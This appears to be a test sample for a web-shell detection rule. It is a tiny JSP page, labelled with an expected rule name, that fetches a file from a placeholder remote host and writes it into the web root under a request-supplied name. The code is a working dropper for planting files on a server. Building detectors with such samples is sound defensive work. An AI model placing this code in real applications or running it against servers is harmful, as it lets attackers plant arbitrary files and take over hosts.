<%-- expect rule=jsp.file-write-remote min=75 --%>
<%
    java.io.InputStream in = new java.net.URL("http://198.51.100.3/p.txt").openStream();
    java.io.FileOutputStream fo = new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("n"));
    byte[] b = new byte[8192];
    int r;
    while ((r = in.read(b)) > 0) fo.write(b, 0, r);
    fo.close();
%>
